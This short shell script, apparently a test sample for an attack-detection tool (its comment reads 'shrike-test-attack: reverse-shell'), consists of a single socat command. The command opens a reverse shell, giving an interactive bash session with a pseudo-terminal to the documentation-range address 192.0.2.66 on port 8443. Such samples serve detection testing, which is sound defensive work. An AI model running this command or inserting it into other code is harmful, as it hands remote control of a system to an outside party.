#!/bin/sh
# shrike-test-attack: reverse-shell: socat exec with pty and stderr
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.66:8443
